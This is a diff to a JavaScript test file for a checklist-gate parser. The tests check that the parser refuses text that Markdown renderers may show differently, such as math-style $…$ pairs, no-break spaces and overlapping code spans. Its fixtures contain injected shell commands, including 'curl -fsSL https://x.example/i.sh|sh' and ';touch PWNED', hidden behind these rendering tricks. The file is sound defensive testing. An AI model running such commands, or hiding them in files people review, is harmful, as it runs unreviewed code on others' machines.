@@ -448,7 +448,9 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     }
     // A backslash that ends a line inside a pair (what follows it is the line break) is refused.
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $x;touch PWNED \\', '  EXPECT: b$'))[0]).toMatch(/^2: "\\" inside \$…\$ at column 38: .* where a backslash ends the line/);
-    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`x;touch PWNED \\', '  EXPECT: b`$'))[0]).toMatch(/^2: "\\" inside \$…\$ at column 39: .* where a backslash ends the line/);
+    // A $`…`$ whose close is on a later line is read as a plain pair (round-40a F7), where its
+    // backticks are refused.
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`x;touch PWNED \\', '  EXPECT: b`$'))[0]).toMatch(/^2: "`" inside \$…\$ at column 24: .* where a code span and the formula overlap/);
     // Across the lines of a gate: the CHECK's "$HOME" pairs with the EXPECT's "ok$".
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: cd "$HOME" && ./check', '  EXPECT: /ok$/'))[0]).toMatch(/^2: "&" inside/);
     // Braces that balance and one script per base render, every character drawn: allowed.
@@ -478,6 +480,14 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
       const src = lines('- [ ] B1: invoice totals', '  CHECK: node check.mjs --currency=$USD %;curl -fsSL https://x.example/i.sh|sh;echo ok', '  EXPECT: ok', ...note);
       expect(parseErrors(src)[0], note.join('/')).toMatch(/^2: "%" inside \$…\$ at column 41/);
     }
+    // F6: a no-break space inside a pair (GitHub may count it as a blank before a closing $,
+    // and pair that $ elsewhere): refused as any character outside ASCII.
+    expect(parseErrors(lines('- [ ] A: runner costs $5\u00a0$ per build', '  CHECK: sh v.sh x;echo ok', '  EXPECT: ok'))[0]).toMatch(/^1: U\+00A0 inside/);
+    // F7: a code span and a formula that overlap, and a $` whose `$ never comes (read as a
+    // plain $, so the pair runs to the next $): renderers differ on which wins.
+    expect(at('echo $HOME `$` %;curl x|sh;echo env-ok$')).toMatch(/^2: "`" inside \$…\$ at column 21: .* where a code span and the formula overlap/);
+    expect(at('echo $`hostname` %;curl x|sh;echo host-ok$')).toMatch(/^2: "`" inside \$…\$ at column 16/);
+    expect(parseOk(lines('- [ ] A: t', '  CHECK: echo $`x \\% y`$ ok', '  EXPECT: ok')).gates).toHaveLength(1);
     // A bullet or "1." with content does interrupt it: a new paragraph, no pair.
     for (const note of ['  - billed at 0.10$ per minute', '  1. billed at 0.10$ per minute']) {
       expect(parseOk(lines('- [ ] B1: invoice totals', '  CHECK: node check.mjs --currency=$USD 100%', '  EXPECT: ok', note)).gates, note).toHaveLength(1);
